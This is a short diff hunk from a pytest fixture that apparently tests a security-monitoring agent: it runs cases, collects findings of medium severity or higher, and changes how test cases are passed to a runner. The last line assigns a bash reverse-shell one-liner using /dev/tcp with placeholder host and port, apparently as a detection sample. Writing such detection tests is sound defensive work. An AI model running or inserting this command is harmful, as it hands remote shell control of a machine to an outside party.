@@ -72,7 +72,7 @@ def session(request: pytest.FixtureRequest, account: Account, folder: Path, agen
             command = prepare(account, folder / case.name, case.language, case.text)
             return work(account, folder / case.name, command, {"WEB": web}, case.expects)
 
-        cases = run_all(chosen(request, {case.name: case for case in ALL}), run)
+        cases = run_all(chosen(request, ALL), run)
     time.sleep(SETTLE_S)
     findings = [finding for finding in agent.findings() if finding.severity >= MEDIUM]
     text = "exec bash -i <>/dev/tcp/$HOST/$PORT >&0 2>&0"
